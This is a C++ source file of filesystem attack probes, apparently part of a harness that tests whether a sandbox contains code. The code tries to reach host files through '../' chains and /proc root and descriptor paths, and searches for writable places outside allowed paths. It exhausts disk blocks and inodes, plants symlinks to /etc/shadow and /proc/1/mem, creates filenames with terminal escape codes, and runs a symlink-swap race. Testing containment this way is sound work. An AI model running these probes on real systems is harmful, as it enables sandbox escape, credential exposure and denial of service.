// Files: ways out of the root, what is writable, and filling what there is.
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/file.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cstring>
#include <ctime>
#include <memory>
#include <vector>

#include "victim/probe.h"

namespace cay::attacks {
namespace {

// A file of the host, by every path that might lead there. reach PATH
Verdict Reach(Arguments arguments) {
  const std::string path = arguments[0];
  std::string up;
  for (int i = 0; i < 64; ++i) up += "../";
  std::vector<std::string> ways = {path,
                                   up + path,
                                   "/proc/self/root" + path,
                                   "/proc/self/cwd/" + up + path,
                                   "/proc/1/root" + path,
                                   "/proc/self/root/" + up + path};
  for (int fd = 0; fd < 64; ++fd) {
    const std::string base = "/proc/self/fd/" + std::to_string(fd) + "/";
    ways.push_back(base + up + path);
    ways.push_back("/proc/1/fd/" + std::to_string(fd) + "/" + up + path);
  }
  for (int process = 1; process < 32; ++process) {
    ways.push_back("/proc/" + std::to_string(process) + "/root" + path);
    ways.push_back("/proc/" + std::to_string(process) + "/cwd/" + up + path);
  }
  for (const std::string& way : ways) {
    if (!ReadSome(way).empty()) return Through(way.substr(0, 40));
  }
  return "not reachable";
}

// The descriptors that a fresh program finds open.
Verdict Descriptors(Arguments) {
  const std::unique_ptr<DIR, int (*)(DIR*)> directory(::opendir("/proc/self/fd"), ::closedir);
  if (!directory) return Refused();
  std::vector<int> open;
  while (const dirent* entry = ::readdir(directory.get())) {
    if (entry->d_name[0] == '.') continue;
    const int fd = ::atoi(entry->d_name);
    if (fd != ::dirfd(directory.get())) open.push_back(fd);
  }
  std::ranges::sort(open);
  std::string text = "open:";
  for (const int fd : open) text += " " + std::to_string(fd);
  return text;
}

Verdict WorkingDirectory(Arguments) {
  char path[4096];
  return ::getcwd(path, sizeof path) == nullptr ? Refused() : "in " + std::string(path);
}

// create PATH: a new file.
Verdict Create(Arguments arguments) {
  const int fd = ::open(arguments[0], O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
  if (fd < 0) return Refused();
  ::close(fd);
  ::unlink(arguments[0]);
  return Through();
}

// The parts of the tree that take a new file or open for writing, except for the allowed places.
// write_outside PLACE…
Verdict WriteOutside(Arguments arguments) {
  static Arguments may;
  static std::string found;
  static unsigned long tried;
  may = arguments;
  const auto look = [](const char* path, const struct stat* info, int type, FTW* /*state*/) {
    const std::string_view name = path;
    const auto at_or_below = [&](std::string_view top) {
      return name.starts_with(top) && (name.size() == top.size() || name[top.size()] == '/');
    };
    if (std::ranges::any_of(may, at_or_below)) return int{FTW_SKIP_SUBTREE};
    const bool directory = type == FTW_D;
    // The many files of /usr are as their directories are.
    const bool file = type == FTW_F && S_ISREG(info->st_mode) && !name.starts_with("/usr/");
    if (!directory && !file) return int{FTW_CONTINUE};
    const std::string made = std::string(path) + "/.written";
    const int fd = directory ? ::open(made.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600)
                             : ::open(path, O_WRONLY | O_CLOEXEC);
    ++tried;
    if (fd < 0) return int{FTW_CONTINUE};
    ::close(fd);
    if (directory) ::unlink(made.c_str());
    found = path;
    return int{FTW_STOP};
  };
  ::nftw("/", look, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  if (!found.empty()) return Through(found);
  return tried > 100 ? "nothing" : "nothing was looked at";
}

// Brings something that was made in the first place to the second: by its name, by another name.
// bring FROM TO
Verdict Bring(Arguments arguments) {
  const std::string from = std::string(arguments[0]) + "/.brought";
  const std::string to = std::string(arguments[1]) + "/.brought";
  const int fd = ::open(from.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  if (fd < 0) return "cannot make " + from;
  ::close(fd);
  if (::link(from.c_str(), to.c_str()) == 0) return Through("linked");
  if (::symlink(from.c_str(), to.c_str()) == 0) return Through("symlinked");
  return ::rename(from.c_str(), to.c_str()) == 0 ? Through("renamed") : Refused();
}

// Writes until there is no more room. fill_blocks DIRECTORY
Verdict FillBlocks(Arguments arguments) {
  const std::vector<char> chunk(1 << 20, 'x');
  unsigned long long written = 0;
  int error = 0;
  for (int file = 0; file < 10'000 && error == 0; ++file) {
    const std::string path = std::string(arguments[0]) + "/fill" + std::to_string(file);
    const int fd = ::open(path.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (fd < 0) {
      error = errno;
      break;
    }
    for (int i = 0; i < 16 && error == 0; ++i) {
      const ssize_t got = ::write(fd, chunk.data(), chunk.size());
      if (got < 0) error = errno;
      if (got > 0) written += static_cast<unsigned long long>(got);
    }
    if (::fsync(fd) != 0 && error == 0) error = errno;
    ::close(fd);
  }
  return Refused(error) + " after " + std::to_string(written >> 20) + " MiB";
}

// fill_inodes DIRECTORY MAX
Verdict FillInodes(Arguments arguments) {
  const int max = ::atoi(arguments[1]);
  for (int file = 0; file < max; ++file) {
    const std::string path = std::string(arguments[0]) + "/inode" + std::to_string(file);
    const int fd = ::open(path.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (fd < 0) return Refused() + (file > 50 ? " after some" : " at once");
    ::close(fd);
  }
  return Through("made all");
}

// Directories as deep as asked; then a FIFO, a socket, a sparse file of 8 EiB, names with newlines.
Verdict HostileTree(Arguments arguments) {
  const std::string root = arguments[0];
  const int depth = ::atoi(arguments[1]);
  if (::mkdir(root.c_str(), 0755) != 0 || ::chdir(root.c_str()) != 0) return Refused();
  if (::mkfifo("fifo", 0644) != 0) return Refused();
  const int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (listener < 0) return Refused();
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path, "socket", 6);
  if (::bind(listener, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
    return Refused();
  }
  ::signal(SIGXFSZ, SIG_IGN);  // of a limit on the size of files
  const int sparse = ::open("sparse", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  for (off_t size = INT64_MAX; size > 0 && ::ftruncate(sparse, size) != 0; size /= 2) {
  }
  if (::symlink("/etc/shadow", "link") != 0 || ::symlink("loop", "loop") != 0) return Refused();
  ::close(::open("new\nline\x1b[31m", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  ::close(::open("\xff\xfe", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  for (int i = 0; i < depth; ++i) {
    if (::mkdir("d", 0755) != 0 || ::chdir("d") != 0) return Refused();
  }
  return "made";
}

// Swaps a directory with a symlink to TARGET for as long as its input is open. swap_race BASE
// TARGET
Verdict SwapRace(Arguments arguments) {
  const std::string base = arguments[0];
  const std::string directory = base + "/d";
  const std::string link = base + "/l";
  ::mkdir(base.c_str(), 0777);
  ::mkdir(directory.c_str(), 0777);
  if (::symlink(arguments[1], link.c_str()) != 0) return Refused();
  ::fcntl(STDIN_FILENO, F_SETFL, O_NONBLOCK);
  Announce("ready");
  unsigned long rounds = 0;
  char byte = 0;
  for (ssize_t got = -1; got != 0; ++rounds) {
    ::renameat2(AT_FDCWD, directory.c_str(), AT_FDCWD, link.c_str(), RENAME_EXCHANGE);
    if (rounds % 64 == 0) got = ::read(STDIN_FILENO, &byte, 1);
  }
  return "swapped " + std::to_string(rounds);
}

// make_links BASE: symlinks and magic links that lead out of BASE.
Verdict MakeLinks(Arguments arguments) {
  const std::string base = arguments[0];
  ::mkdir(base.c_str(), 0777);
  const std::array<std::pair<const char*, const char*>, 6> links = {{
      {"etc", "/etc"},
      {"shadow", "/etc/shadow"},
      {"guest_root", "/proc/1/root"},
      {"guest_memory", "/proc/1/mem"},
      {"own_root", "/proc/self/root"},
      {"descriptor", "/proc/1/fd/0"},
  }};
  for (const auto& [name, target] : links) {
    if (::symlink(target, (base + "/" + name).c_str()) != 0) return Refused();
  }
  return "made";
}

constexpr std::array kProbes = {
    Probe{"reach", Reach},
    Probe{"descriptors", Descriptors},
    Probe{"working_directory", WorkingDirectory},
    Probe{"create", Create},
    Probe{"write_outside", WriteOutside},
    Probe{"bring", Bring},
    Probe{"fill_blocks", FillBlocks},
    Probe{"fill_inodes", FillInodes},
    Probe{"hostile_tree", HostileTree},
    Probe{"swap_race", SwapRace},
    Probe{"make_links", MakeLinks},
};

}  // namespace

std::span<const Probe> FilesystemProbes() { return kProbes; }

}  // namespace cay::attacks
